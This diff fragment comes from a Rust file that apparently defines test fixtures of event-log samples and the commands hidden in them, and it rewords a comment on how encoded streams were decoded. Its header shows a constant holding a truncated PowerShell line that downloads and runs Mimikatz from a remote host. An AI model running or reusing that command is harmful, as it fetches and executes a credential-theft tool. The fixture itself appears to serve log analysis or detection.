@@ -53,8 +53,8 @@ const MIMIKATZ: &str = "IEX (New-Object Net.WebClient).DownloadString('https://r
 /// A log, and records of it with a text that each of them hides.
 type Hidden = (&'static str, &'static [(u64, &'static str)]);
 
-/// Texts in single quotes were read in the logs by hand; streams were inflated with Python's gzip,
-/// `-Enc` arguments decoded with `base64 -d | iconv -f utf-16le`.
+/// Texts in single quotes were read in the logs by hand; streams were inflated and
+/// `-Enc` arguments decoded with Python.
 const HIDDEN: &[Hidden] = &[
     (
         "deepbluecli/Powershell-Invoke-Obfuscation-encoding-menu.evtx",
